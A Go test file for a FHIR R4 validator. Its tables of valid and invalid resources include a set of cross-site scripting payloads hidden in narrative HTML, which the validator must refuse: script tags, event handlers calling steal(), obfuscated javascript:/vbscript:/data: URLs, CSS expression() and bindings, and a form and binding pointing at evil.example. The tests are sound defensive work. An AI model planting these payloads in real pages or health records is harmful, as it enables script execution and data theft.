package fhirr4

import (
	"encoding/json"
	"maps"
	"math/rand/v2"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/custos-mcp/custos/e2e/validators"
)

func decode(t *testing.T, s string) map[string]any {
	t.Helper()
	dec := json.NewDecoder(strings.NewReader(s))
	dec.UseNumber()
	var m map[string]any
	if err := dec.Decode(&m); err != nil {
		t.Fatalf("%s: %v", s, err)
	}
	return m
}

// narrative is a valid R4 Observation with the narrative div (its text,
// quoted here).
func narrative(div string) string {
	b, err := json.Marshal(div)
	if err != nil {
		panic(err)
	}
	return obs(`,"text":{"status":"generated","div":` + string(b) + `}`)
}

// obs is a valid R4 Observation with extra members spliced in.
func obs(extra string) string {
	return `{"resourceType":"Observation","id":"o","status":"final","code":{"text":"x"}` + extra + `}`
}

// TestCheckValid: valid R4 passes, _name companions and their arrays
// aligned with nulls included.
func TestCheckValid(t *testing.T) {
	for _, s := range validCases {
		if ps := Check(decode(t, s)); len(ps) != 0 {
			t.Errorf("%s: %v, want valid", s, ps)
		}
	}
}

var validCases = []string{
	obs(``),
	obs(`,"valueQuantity":{"value":5.40,"unit":"mg","system":"http://unitsofmeasure.org","code":"mg"}`),
	obs(`,"_status":{"extension":[{"url":"http://example.org/x","valueBoolean":true}]}`),
	`{"resourceType":"Patient","id":"p","name":[{"given":["A",null],"_given":[null,{"extension":[{"url":"http://example.org/x","valueString":"y"}]}]}],"birthDate":"1931-02-28","deceasedBoolean":false}`,
	`{"resourceType":"Patient","id":"p","_birthDate":{"id":"b","extension":[{"url":"http://hl7.org/fhir/StructureDefinition/data-absent-reason","valueCode":"unknown"}]}}`,
	obs(`,"contained":[{"resourceType":"Patient","id":"p1","active":true}],"subject":{"reference":"#p1"}`),
	`{"resourceType":"Bundle","type":"collection","entry":[{"fullUrl":"urn:uuid:1","resource":` + obs(``) + `}]}`,
	obs(`,"component":[{"code":{"text":"c"},"valueInteger":-3}]`),
	obs(`,"valueInteger":1e2`),
	obs(`,"extension":[{"url":"http://example.org/x","valueOid":"urn:oid:2.16.840.1.113883.6.1"},{"url":"http://example.org/y","valueUuid":"urn:uuid:c757873d-ec9a-4326-a141-556f43239520"}]`),
	obs(`,"note":[{"text":"line one\r\n\tline two \u00a0 \ud83d\ude00"}]`),
	narrative(`<div xmlns="http://www.w3.org/1999/xhtml" lang="en" xml:lang="en"><h1 class="c">A &amp; B&#160;&lt;</h1><table border="1"><tbody><tr><td colspan="2" style="color:red">x</td></tr></tbody></table><a href="https://example.org/a" name="n">a</a><br/><img src="#b" alt="b"/></div>`),
	narrative(`<div xmlns="http://www.w3.org/1999/xhtml"><img src="data:image/png;base64,AAAA"/></div>`),
	// An img's data URL of a raster image, in any case and with
	// parameters, and styles a browser runs nothing of (a url() of an
	// image, a raster data URL, a word that only looks like a scheme).
	narrative(`<div xmlns="http://www.w3.org/1999/xhtml"><img src=" DATA:Image/JPEG;name=x.jpg;base64,AAAA"/><img src="data:image/gif,x" alt="g"/></div>`),
	// image/jpg, the common misspelling of image/jpeg that generated HTML
	// writes (and attachments carry: fhirin reads it as image/jpeg), a
	// JPEG a browser decodes as pixels: refused until h-review61.
	narrative(`<div xmlns="http://www.w3.org/1999/xhtml"><img src="data:image/jpg;base64,/9j/4AAQ" alt="photo"/></div>`),
	narrative(`<div xmlns="http://www.w3.org/1999/xhtml"><p style="color: red; background: url('https://example.org/bg.png') no-repeat; font-family: 'Expression Sans'">x</p><span style="background-image:url(data:image/png;base64,AAAA)">y</span><span style="content:'javascript'">z</span></div>`),
	// CSS properties whose names end in "behavior" (CSSOM View's
	// scroll-behavior, overscroll-behavior) set scrolling, not IE's
	// behavior binding: until h-review61 they were refused as one.
	narrative(`<div xmlns="http://www.w3.org/1999/xhtml"><div style="overflow:auto; scroll-behavior: smooth;overscroll-behavior:contain">x</div></div>`),
	narrative("\n<h:div xmlns:h=\"http://www.w3.org/1999/xhtml\"><h:p>x</h:p></h:div>\n"),
	// An HTML entity and a comment: well-formed XHTML to a reader that
	// knows HTML's entities, which the reference validators accept and
	// sources write (&nbsp;); a comment that holds no "<" or ">" ends where
	// an HTML parser ends it too.
	narrative(`<div xmlns="http://www.w3.org/1999/xhtml"><p>A&nbsp;B &eacute;</p><!-- generated narrative --></div>`),
	`{"resourceType":"Observation","_status":{"extension":[{"url":"http://hl7.org/fhir/StructureDefinition/data-absent-reason","valueCode":"unknown"}]},"code":{"text":"x"}}`,
	// An element whose type is a resource type (R4's one:
	// Bundle.entry.response.outcome, an OperationOutcome) holds a resource,
	// resourceType and all: refused as an unknown element until h-r4all
	// (HL7's R4 example Bundle-bundle-response.json).
	`{"resourceType":"Bundle","type":"batch-response","entry":[{"response":{"status":"201 Created","outcome":{"resourceType":"OperationOutcome","issue":[{"severity":"warning","code":"not-found"}]}}}]}`,
}

type invalid struct {
	name, body string
	kind       Kind
	path       string
}

func checkInvalid(t *testing.T, cases []invalid) {
	t.Helper()
	for _, tc := range cases {
		ps := Check(decode(t, tc.body))
		if len(ps) == 0 {
			t.Errorf("%s: valid, want %s", tc.name, tc.path)
			continue
		}
		if ps[0].Kind != tc.kind || ps[0].Path != tc.path {
			t.Errorf("%s: %+v, want kind %d at %s", tc.name, ps[0], tc.kind, tc.path)
		}
		for _, p := range ps {
			if strings.Contains(p.Error(), "SECRET") {
				t.Errorf("%s: a problem quotes content: %v", tc.name, p)
			}
		}
	}
}

func TestCheckUnknownElements(t *testing.T) { checkInvalid(t, unknownCases) }

var unknownCases = []invalid{
	{"an unknown element", obs(`,"fooBar":"SECRET"`), Unknown, "Observation.fooBar"},
	{"a miscased element", obs(`,"Subject":{"reference":"Patient/SECRET"}`), Unknown, "Observation.Subject"},
	{"a member name that is content", obs(`,"SECRET MRN":1`), Unknown, "Observation.?"},
	{"an unknown element in a backbone", obs(`,"component":[{"code":{"text":"c"},"fooBar":1}]`), Unknown, "Observation.component[0].fooBar"},
	{"an unknown element in a complex type", obs(`,"code":{"text":"x","fooBar":1}`), Unknown, "Observation.code.fooBar"},
	{"a _name of no element", obs(`,"_fooBar":{"id":"x"}`), Unknown, "Observation._fooBar"},
	{"a _name of a complex element", obs(`,"_code":{"id":"x"}`), Unknown, "Observation._code"},
	{"an unknown element in a _name", obs(`,"_status":{"fooBar":1}`), Unknown, "Observation._status.fooBar"},
	{"two types of one choice", obs(`,"valueString":"a","valueBoolean":true`), Unknown, "Observation.valueString"},
	{"an R5 element", `{"resourceType":"Consent","id":"c","status":"active","decision":"deny"}`, Unknown, "Consent.decision"},
	{"resourceType inside a complex type", obs(`,"code":{"resourceType":"CodeableConcept"}`), Unknown, "Observation.code.resourceType"},
	{"an unknown element in a contained resource", obs(`,"contained":[{"resourceType":"Patient","id":"p","fooBar":1}]`), Unknown, "Observation.contained[0].fooBar"},
	{"a contained resource of no type", obs(`,"contained":[{"id":"p"}]`), Unknown, "Observation.contained[0].resourceType"},
	{"an unknown element in a Bundle entry", `{"resourceType":"Bundle","type":"collection","entry":[{"resource":` + obs(`,"fooBar":1`) + `}]}`, Unknown, "Bundle.entry[0].resource.fooBar"},
	{"no R4 type", `{"resourceType":"Foo"}`, Unknown, "resourceType"},
	{"another resource where R4 types an element OperationOutcome", `{"resourceType":"Bundle","type":"batch-response","entry":[{"response":{"status":"200","outcome":{"resourceType":"Patient","id":"p"}}}]}`, Unknown, "Bundle.entry[0].response.outcome.resourceType"},
	{"an unknown element in a Bundle entry's outcome", `{"resourceType":"Bundle","type":"batch-response","entry":[{"response":{"status":"200","outcome":{"resourceType":"OperationOutcome","issue":[{"severity":"error","code":"x"}],"fooBar":1}}}]}`, Unknown, "Bundle.entry[0].response.outcome.fooBar"},
}

func TestCheckJSONKinds(t *testing.T) { checkInvalid(t, kindCases) }

var kindCases = []invalid{
	{"a decimal as a string", obs(`,"valueQuantity":{"value":"5.4"}`), JSONKind, "Observation.valueQuantity.value"},
	{"a list as an object", `{"resourceType":"Device","id":"d","udiCarrier":{"deviceIdentifier":"SECRET"}}`, JSONKind, "Device.udiCarrier"},
	{"a single value as a list", obs(`,"subject":[{"reference":"Patient/p"}]`), JSONKind, "Observation.subject"},
	{"a complex type as a string", obs(`,"subject":"Patient/SECRET"`), JSONKind, "Observation.subject"},
	{"a boolean as a string", `{"resourceType":"Patient","active":"true"}`, JSONKind, "Patient.active"},
	{"a string as a number", `{"resourceType":"Patient","gender":1}`, JSONKind, "Patient.gender"},
	{"an integer with a fraction", obs(`,"valueInteger":1.5`), JSONKind, "Observation.valueInteger"},
	{"an integer out of range", obs(`,"valueInteger":2147483648`), JSONKind, "Observation.valueInteger"},
	{"an integer in exponent form with a fraction", obs(`,"valueInteger":1.5e0`), JSONKind, "Observation.valueInteger"},
	{"an empty string", `{"resourceType":"Patient","gender":""}`, JSONKind, "Patient.gender"},
	{"an empty object", obs(`,"subject":{}`), JSONKind, "Observation.subject"},
	{"an empty array", obs(`,"performer":[]`), JSONKind, "Observation.performer"},
	{"null", obs(`,"subject":null`), JSONKind, "Observation.subject"},
	{"null in an array", obs(`,"performer":[null]`), JSONKind, "Observation.performer[0]"},
	{"null in a primitive array without its companion", `{"resourceType":"Patient","name":[{"given":["A",null]}]}`, JSONKind, "Patient.name[0].given[1]"},
	{"a companion null where the value is null too", `{"resourceType":"Patient","name":[{"given":["A",null],"_given":[null,null]}]}`, JSONKind, "Patient.name[0]._given[1]"},
	{"a companion array of another length", `{"resourceType":"Patient","name":[{"given":["A"],"_given":[null,{"id":"x"}]}]}`, JSONKind, "Patient.name[0]._given"},
	{"a companion not an array", `{"resourceType":"Patient","name":[{"given":["A"],"_given":{"id":"x"}}]}`, JSONKind, "Patient.name[0]._given"},
}

func TestCheckFormats(t *testing.T) { checkInvalid(t, formatCases) }

var formatCases = []invalid{
	{"30 February", `{"resourceType":"Patient","birthDate":"1931-02-30"}`, Format, "Patient.birthDate"},
	{"29 February of no leap year", `{"resourceType":"Patient","birthDate":"1900-02-29"}`, Format, "Patient.birthDate"},
	{"31 April in a dateTime", obs(`,"effectiveDateTime":"2024-04-31T10:00:00Z"`), Format, "Observation.effectiveDateTime"},
	{"a day-first date", `{"resourceType":"Immunization","status":"completed","vaccineCode":{"text":"x"},"patient":{"reference":"Patient/p"},"occurrenceDateTime":"14/03/2024"}`, Format, "Immunization.occurrenceDateTime"},
	{"a dateTime with a time and no zone", obs(`,"effectiveDateTime":"2024-03-14T10:00:00"`), Format, "Observation.effectiveDateTime"},
	{"a year 0000", `{"resourceType":"Patient","birthDate":"0000"}`, Format, "Patient.birthDate"},
	{"an instant without time", obs(`,"issued":"2024-03-14"`), Format, "Observation.issued"},
	{"a time with a zone", `{"resourceType":"Observation","status":"final","code":{"text":"x"},"valueTime":"10:00:00Z"}`, Format, "Observation.valueTime"},
	{"an id too long", `{"resourceType":"Patient","link":[{"other":{"reference":"Patient/p"},"type":"seealso","id":"x"}],"meta":{"versionId":"` + strings.Repeat("a", 65) + `"}}`, Format, "Patient.meta.versionId"},
	{"a code with a double space", `{"resourceType":"Patient","gender":"fe  male"}`, Format, "Patient.gender"},
	{"a uri with a space", obs(`,"code":{"coding":[{"system":"http://example.org/a b","code":"x"}]}`), Format, "Observation.code.coding[0].system"},
	{"base64 not base64", `{"resourceType":"Binary","contentType":"text/plain","data":"not base64!"}`, Format, "Binary.data"},
	{"a positiveInt of 0", `{"resourceType":"Account","status":"active","coverage":[{"coverage":{"reference":"Coverage/c"},"priority":0}]}`, Format, "Account.coverage[0].priority"},
	{"an unsignedInt below 0", `{"resourceType":"Patient","photo":[{"contentType":"image/png","size":-1}]}`, Format, "Patient.photo[0].size"},
	{"an oid without urn:oid:", obs(`,"extension":[{"url":"http://example.org/x","valueOid":"2.16.840.1"}]`), Format, "Observation.extension[0].valueOid"},
	{"an oid with a leading zero", obs(`,"extension":[{"url":"http://example.org/x","valueOid":"urn:oid:2.16.0840"}]`), Format, "Observation.extension[0].valueOid"},
	{"a uuid without urn:uuid:", obs(`,"extension":[{"url":"http://example.org/x","valueUuid":"c757873d-ec9a-4326-a141-556f43239520"}]`), Format, "Observation.extension[0].valueUuid"},
	{"a uuid in uppercase", obs(`,"extension":[{"url":"http://example.org/x","valueUuid":"urn:uuid:C757873D-EC9A-4326-A141-556F43239520"}]`), Format, "Observation.extension[0].valueUuid"},
	{"a uuid too short", obs(`,"extension":[{"url":"http://example.org/x","valueUuid":"urn:uuid:c757873d-ec9a-4326-a141-556f4323952"}]`), Format, "Observation.extension[0].valueUuid"},
	{"a string with a control character", obs(`,"note":[{"text":"SECRET\u0001 note"}]`), Format, "Observation.note[0].text"},
	{"a string with a NUL", `{"resourceType":"Patient","name":[{"family":"SECRET\u0000"}]}`, Format, "Patient.name[0].family"},
	{"a string with a form feed", `{"resourceType":"Patient","name":[{"family":"SECRET\f"}]}`, Format, "Patient.name[0].family"},
	{"a markdown with an escape character", `{"resourceType":"Patient","contact":[{"name":{"text":"x"}}],"extension":[{"url":"http://example.org/x","valueMarkdown":"SECRET \u001b[31m"}]}`, Format, "Patient.extension[0].valueMarkdown"},
}

func TestCheckNarrative(t *testing.T) { checkInvalid(t, narrativeCases) }

// narrativeCases are narratives R4 refuses (narrative.html, txt-1, txt-2),
// each with content ("SECRET") no problem may quote.
var narrativeCases = func() []invalid {
	const ns = `xmlns="http://www.w3.org/1999/xhtml"`
	var out []invalid
	for _, c := range []struct{ name, div string }{
		{"a script", `<div ` + ns + `><p>SECRET</p><script>alert(1)</script></div>`},
		{"a script in another namespace's clothing", `<div ` + ns + `><p>SECRET</p><x:script xmlns:x="http://example.org/x">alert(1)</x:script></div>`},
		{"an event handler", `<div ` + ns + `><p onclick="steal()">SECRET</p></div>`},
		{"an event handler in capitals", `<div ` + ns + `><img src="x" ONERROR="steal()"/>SECRET</div>`},
		{"an iframe", `<div ` + ns + `>SECRET<iframe src="https://evil.example"/></div>`},
		{"an object", `<div ` + ns + `>SECRET<object data="x"/></div>`},
		{"a form", `<div ` + ns + `>SECRET<form action="https://evil.example"><input name="SECRET"/></form></div>`},
		{"a style element", `<div ` + ns + `>SECRET<style>p{}</style></div>`},
		{"a javascript: link", `<div ` + ns + `><a href="javascript:steal()">SECRET</a></div>`},
		{"a javascript: link in disguise", `<div ` + ns + `><a href=" Java&#x9;Script:steal()">SECRET</a></div>`},
		{"a vbscript: image", `<div ` + ns + `><img src="vbscript:steal"/>SECRET</div>`},
		{"an attribute txt-1 does not list", `<div ` + ns + `><a href="https://example.org" target="_blank">SECRET</a></div>`},
		{"an xlink:href", `<div ` + ns + ` xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="https://example.org">SECRET</a></div>`},
		{"a root that is no div", `<p ` + ns + `>SECRET</p>`},
		{"a div in no namespace", `<div>SECRET</div>`},
		{"a div in another namespace", `<div xmlns="http://hl7.org/fhir">SECRET</div>`},
		{"whitespace only", `<div ` + ns + `> <p> </p><br/> </div>`},
		{"not well-formed", `<div ` + ns + `><p>SECRET</div>`},
		{"an entity neither XML nor HTML knows", `<div ` + ns + `>SECRET&mrn;</div>`},
		{"plain text", `SECRET MRN 12345`},
		{"text after the root", `<div ` + ns + `>x</div>SECRET`},
		{"two roots", `<div ` + ns + `>x</div><div ` + ns + `>SECRET</div>`},
		{"a CDATA section an HTML parser reads as an element", `<div ` + ns + `>SECRET<![CDATA[><img src=x onerror=steal()>]]></div>`},
		{"a comment an HTML parser ends early", `<div ` + ns + `>SECRET<!-- --!><img src=x onerror=steal()> --></div>`},
		{"a comment holding markup", `<div ` + ns + `>SECRET<!-- <img src=x onerror=steal()> --></div>`},
		{"a comment an HTML parser closes at once", `<div ` + ns + `>SECRET<!--><img src=x onerror=steal()>--></div>`},
		{"a processing instruction", `<div ` + ns + `>SECRET<?x ><img src=x onerror=steal()>?></div>`},
		{"a DOCTYPE", `<!DOCTYPE div><div ` + ns + `>SECRET</div>`},
		// Active content in a style attribute (txt-1 allows internally
		// contained style attributes, not scripts), and data and script
		// URLs as a browser decodes them: character references (decoded
		// by XML before), case, white space, CSS escapes and comments.
		{"a javascript: url() in a style", `<div ` + ns + `><p style="background:url(javascript:steal())">SECRET</p></div>`},
		{"a javascript: url() in a style, quoted and escaped", `<div ` + ns + `><p style="background:url('\6a ava&#x9;script:steal()')">SECRET</p></div>`},
		{"a javascript: url() in a style with character references", `<div ` + ns + `><p style="background:url(&#106;avascript&#58;steal())">SECRET</p></div>`},
		{"a vbscript: url() in a style", `<div ` + ns + `><p style="background-image: URL( &quot;VBScript:steal&quot; )">SECRET</p></div>`},
		{"an expression() in a style", `<div ` + ns + `><p style="width:expression(steal())">SECRET</p></div>`},
		{"an expression() in a style in disguise", `<div ` + ns + `><p style="width:EXPR/**/ession (steal())">SECRET</p></div>`},
		{"an expression() in a style escaped", `<div ` + ns + `><p style="width:e\78 pression(steal())">SECRET</p></div>`},
		{"a -moz-binding in a style", `<div ` + ns + `><p style="-moz-binding:url(https://evil.example/x.xml#x)">SECRET</p></div>`},
		{"a behavior in a style", `<div ` + ns + `><p style="behavior: url(x.htc)">SECRET</p></div>`},
		{"a behavior after a scroll-behavior in a style", `<div ` + ns + `><p style="scroll-behavior:smooth; -ms-behavior: url(x.htc)">SECRET</p></div>`},
		{"a behavior after a comment in a style", `<div ` + ns + `><p style="font-family:scroll-/**/;behavior: url(x.htc)">SECRET</p></div>`},
		{"a data: url() of HTML in a style", `<div ` + ns + `><p style="background:url(data:text/html,&lt;script&gt;steal()&lt;/script&gt;)">SECRET</p></div>`},
		{"a data: url() of SVG in a style", `<div ` + ns + `><p style="background:url('data:image/svg+xml;base64,PHN2Zz4=')">SECRET</p></div>`},
		{"a data: link", `<div ` + ns + `><a href="data:text/html;base64,PHNjcmlwdD4=">SECRET</a></div>`},
		{"a data: link in disguise", `<div ` + ns + `><a href="&#x20;DaTa&#x0A;:text/html,x">SECRET</a></div>`},
		{"a data: link of an image", `<div ` + ns + `><a href="data:image/png;base64,AAAA">SECRET</a></div>`},
		{"a data: image of SVG", `<div ` + ns + `><img src="data:image/svg+xml;base64,PHN2Zz4="/>SECRET</div>`},
		{"a data: image of HTML", `<div ` + ns + `><img src="data:text/html,x"/>SECRET</div>`},
		{"a data: image of no type", `<div ` + ns + `><img src="data:,x"/>SECRET</div>`},
		{"a data: cite", `<div ` + ns + `><blockquote cite="data:text/html,x">SECRET</blockquote></div>`},
		{"a vbscript: link in capitals", `<div ` + ns + `><a href="VBSCRIPT:steal">SECRET</a></div>`},
		{"a javascript: link with character references", `<div ` + ns + `><a href="&#x6A;&#x61;vascript&#x3A;steal()">SECRET</a></div>`},
		{"a javascript: link with HTML5's named references", `<div ` + ns + `><a href="javascript&colon;steal()">SECRET</a></div>`},
	} {
		out = append(out, invalid{"a narrative with " + c.name, narrative(c.div), Format, "Observation.text.div"})
	}
	return out
}()

// TestFormatsAreR4s: formatSources are the regexes of R4's
// StructureDefinitions, letter for letter.
func TestFormatsAreR4s(t *testing.T) {
	for typ, want := range r4Regexes(t) {
		if got, ok := formatSources[typ]; ok && got != want {
			t.Errorf("%s: %q, R4 has %q", typ, got, want)
		}
	}
}

// r4Regexes are the regexes of the R4 primitive types whose format Check
// checks, from their StructureDefinitions.
func r4Regexes(t *testing.T) map[string]string {
	t.Helper()
	out := map[string]string{}
	for typ := range formatSources {
		var sd struct {
			Snapshot struct {
				Element []struct {
					Path string `json:"path"`
					Type []struct {
						Extension []struct {
							URL         string `json:"url"`
							ValueString string `json:"valueString"`
						} `json:"extension"`
					} `json:"type"`
				} `json:"element"`
			} `json:"snapshot"`
		}
		if err := json.Unmarshal(validators.R4Definition(t, typ), &sd); err != nil {
			t.Fatal(err)
		}
		for _, e := range sd.Snapshot.Element {
			for _, ty := range e.Type {
				for _, x := range ty.Extension {
					if e.Path == typ+".value" && strings.HasSuffix(x.URL, "/regex") {
						out[typ] = x.ValueString
					}
				}
			}
		}
		if out[typ] == "" {
			t.Errorf("%s: no regex in its StructureDefinition", typ)
		}
	}
	return out
}

func TestCheckRequired(t *testing.T) { checkInvalid(t, requiredCases) }

var requiredCases = []invalid{
	{"an Immunization without vaccineCode", `{"resourceType":"Immunization","status":"completed","patient":{"reference":"Patient/p"},"occurrenceDateTime":"2024-03-14"}`, Required, "Immunization.vaccineCode"},
	{"a required choice with no type", `{"resourceType":"Immunization","status":"completed","vaccineCode":{"text":"x"},"patient":{"reference":"Patient/p"}}`, Required, "Immunization.occurrence[x]"},
	{"an Observation without status", `{"resourceType":"Observation","code":{"text":"x"}}`, Required, "Observation.status"},
	{"a required element of a backbone", obs(`,"component":[{"valueString":"x"}]`), Required, "Observation.component[0].code"},
	{"a required element of a complex type", obs(`,"extension":[{"valueString":"x"}]`), Required, "Observation.extension[0].url"},
	{"a required element of a contained resource", obs(`,"contained":[{"resourceType":"Observation","code":{"text":"x"}}]`), Required, "Observation.contained[0].status"},
}

// TestIsElementNameAgreesWithRegexp: the hand-written check agrees with
// elementName, the plain regexp it replaces on the hot path, on the edge
// cases and on random names.
func TestIsElementNameAgreesWithRegexp(t *testing.T) {
	cases := []string{"", "a", "_", "_a", "a1", "1a", "valueQuantity", "a-b", "a.b", "a b", "ä", "a\x00",
		strings.Repeat("a", 63), strings.Repeat("a", 64), strings.Repeat("a", 65), "A" + strings.Repeat("9", 63), "_" + strings.Repeat("9", 64)}
	r := rand.New(rand.NewPCG(1, 2))
	const alphabet = "aZ_09-.é \x00"
	for range 20000 {
		b := make([]byte, r.IntN(70))
		for i := range b {
			b[i] = alphabet[r.IntN(len(alphabet))]
		}
		cases = append(cases, string(b))
	}
	for _, c := range cases {
		if got, want := isElementName(c), elementName.MatchString(c); got != want {
			t.Errorf("isElementName(%q) = %v, the regexp says %v", c, got, want)
		}
	}
}

// TestFormatFastPathsAgree: matchFormat's hand-written checks agree with
// the R4 regexps (formats; for string and markdown with stringChars, R4's
// rule on control characters), the plain version they replace, on edge
// cases and on random strings over an alphabet of the characters that
// matter.
func TestFormatFastPathsAgree(t *testing.T) {
	cases := []string{"", " ", "a", " a", "a ", "a  b", "a b", "a\tb", "a\u00a0b", "é", "\xff", "AAAA", " AAAA ", "AAA", "AAAA AAAA",
		"AA AA", "AAAA\n", "\x00", "a\x1fb", "\x7f", "a\r\n\tb", "====", "AB+/", "AB-_", strings.Repeat("a", 64), strings.Repeat("a", 65), "a.b-c", "http://x/y z"}
	r := rand.New(rand.NewPCG(3, 4))
	const alphabet = "aZ09+/=-._ \t\n\r\f\v\xffé\x00\x01\x1f\x7f"
	for range 50000 {
		b := make([]byte, r.IntN(12))
		if r.IntN(10) == 0 {
			b = make([]byte, 60+r.IntN(10))
		}
		for i := range b {
			b[i] = alphabet[r.IntN(len(alphabet))]
		}
		cases = append(cases, string(b))
	}
	for _, typ := range []string{"uri", "url", "canonical", "id", "code", "base64Binary", "string", "markdown"} {
		re := formats[typ]
		for _, c := range cases {
			want := re.MatchString(c)
			if typ == "string" || typ == "markdown" {
				want = want && stringChars.MatchString(c)
			}
			if got := matchFormat(typ, re, c); got != want {
				t.Errorf("%s %q: the fast path says %v, the regexp %v", typ, c, got, want)
			}
		}
	}
}

// TestNarrativeListsAreR4s: the elements and attributes a narrative may
// hold are those of R4's txt-1 invariant (the XPath of Narrative.div in
// its StructureDefinition), letter for letter.
func TestNarrativeListsAreR4s(t *testing.T) {
	var sd struct {
		Snapshot struct {
			Element []struct {
				Path       string `json:"path"`
				Constraint []struct {
					Key   string `json:"key"`
					XPath string `json:"xpath"`
				} `json:"constraint"`
			} `json:"element"`
		} `json:"snapshot"`
	}
	if err := json.Unmarshal(validators.R4Definition(t, "Narrative"), &sd); err != nil {
		t.Fatal(err)
	}
	xpath := ""
	for _, e := range sd.Snapshot.Element {
		for _, c := range e.Constraint {
			if e.Path == "Narrative.div" && c.Key == "txt-1" {
				xpath = c.XPath
			}
		}
	}
	lists := regexp.MustCompile(`name\(\.\)=\(([^)]*)\)`).FindAllStringSubmatch(xpath, -1)
	if len(lists) != 2 {
		t.Fatalf("txt-1's XPath holds %d lists, want 2 (elements, attributes): %s", len(lists), xpath)
	}
	for i, want := range []map[string]bool{narrativeElements, narrativeAttributes} {
		got := map[string]bool{}
		for _, q := range strings.Split(lists[i][1], ",") {
			got[strings.Trim(strings.TrimSpace(q), "'")] = true
		}
		if !maps.Equal(got, want) {
			t.Errorf("list %d: txt-1 has %v, we have %v", i, slices.Sorted(maps.Keys(got)), slices.Sorted(maps.Keys(want)))
		}
	}
}

// requiredPlain is required as it was before requirements: through every
// element of defs for every object. It is the reference
// TestRequirementsAgree holds requirements to.
func requiredPlain(defs map[string]Element, m map[string]any) []string {
	var missing []string
	for name, e := range defs {
		if !e.Required {
			continue
		}
		_, v := m[name]
		_, x := m["_"+name]
		if v || x {
			continue
		}
		if e.Choice != "" {
			if choicePresentPlain(defs, e.Choice, m) {
				continue
			}
			name = e.Choice + "[x]"
		}
		if !slices.Contains(missing, name) {
			missing = append(missing, name)
		}
	}
	slices.Sort(missing)
	return missing
}

func choicePresentPlain(defs map[string]Element, choice string, m map[string]any) bool {
	for name, e := range defs {
		if e.Choice == choice {
			if _, ok := m[name]; ok {
				return true
			}
			if _, ok := m["_"+name]; ok {
				return true
			}
		}
	}
	return false
}

// TestRequirementsAgree: for every type and backbone element, the
// required elements Check reports missing are requiredPlain's, for an
// empty object and for one that holds each element (or its _name
// companion) alone.
func TestRequirementsAgree(t *testing.T) {
	missing := func(key string, m map[string]any) []string {
		c := &checker{}
		c.required("K", key, m)
		var out []string
		for _, p := range c.problems {
			out = append(out, strings.TrimPrefix(p.Path, "K."))
		}
		return out
	}
	n := 0
	for key, defs := range Elements {
		ms := []map[string]any{{}}
		for name := range defs {
			ms = append(ms, map[string]any{name: true}, map[string]any{"_" + name: true})
		}
		for _, m := range ms {
			got, want := missing(key, m), requiredPlain(defs, m)
			if len(want) > maxProblems {
				want = want[:maxProblems]
			}
			if !slices.Equal(got, want) {
				t.Errorf("%s with %v: %v missing, the plain walk says %v", key, slices.Collect(maps.Keys(m)), got, want)
			}
			n++
		}
	}
	if n < 10000 {
		t.Errorf("only %d objects compared", n)
	}
}

// TestQuickWalkAgrees: the quick walk (no paths, map order) fails exactly
// the resources the full walk finds problems in, on every table case.
func TestQuickWalkAgrees(t *testing.T) {
	for _, s := range slices.Concat(validCases, bodies(unknownCases, kindCases, formatCases, requiredCases, narrativeCases)) {
		m := decode(t, s)
		q := checker{quick: true}
		q.resource("", m)
		c := checker{}
		c.resource("", m)
		if q.failed != (len(c.problems) > 0) || len(q.problems) > 0 {
			t.Errorf("%s: the quick walk says failed=%v, the full walk %v", s, q.failed, c.problems)
		}
	}
}

func bodies(cases ...[]invalid) []string {
	var out []string
	for _, cs := range cases {
		for _, c := range cs {
			out = append(out, c.body)
		}
	}
	return out
}

// TestResourcesAreR4s: the resource types of the definitions but NotR4
// are R4's, the ones HL7's R4 JSON schema knows, and NotR4 is what the
// definitions carry beyond them (R4B's SubscriptionStatus). Check refuses
// a resource of NotR4 at the root and contained: it took a contained
// SubscriptionStatus, structure-checked by R4B's definition, as R4 (and
// one at the root, which the importer refuses by its own table).
func TestResourcesAreR4s(t *testing.T) {
	var r4 []string
	for typ := range Resources {
		if _, ok := NotR4[typ]; !ok {
			r4 = append(r4, typ)
		}
	}
	slices.Sort(r4)
	if want := validators.HL7SchemaResourceTypes(t); !slices.Equal(r4, want) {
		t.Errorf("Resources but NotR4 (%d) are not the R4 schema's resource types (%d)", len(r4), len(want))
	}
	if _, ok := NotR4["SubscriptionStatus"]; !ok || !Resources["SubscriptionStatus"] {
		t.Errorf("NotR4 %v lacks R4B's SubscriptionStatus, which Medplum's definitions carry", NotR4)
	}
	status := `{"resourceType":"SubscriptionStatus","status":"active","type":"heartbeat","subscription":{"reference":"Subscription/s1"}}`
	for _, tc := range []struct{ doc, path string }{
		{status, "resourceType"},
		{`{"resourceType":"Observation","status":"final","code":{"text":"heart rate"},"contained":[` + status + `]}`, "Observation.contained[0].resourceType"},
		{`{"resourceType":"Bundle","type":"collection","entry":[{"resource":` + status + `}]}`, "Bundle.entry[0].resource.resourceType"},
	} {
		ps := Check(decode(t, tc.doc))
		if !slices.ContainsFunc(ps, func(p Problem) bool {
			return p.Kind == Unknown && p.Path == tc.path && strings.Contains(p.What, "not an R4 resource type")
		}) {
			t.Errorf("Check(%s) = %v, want an unknown resource type at %s", tc.doc, ps, tc.path)
		}
	}
}
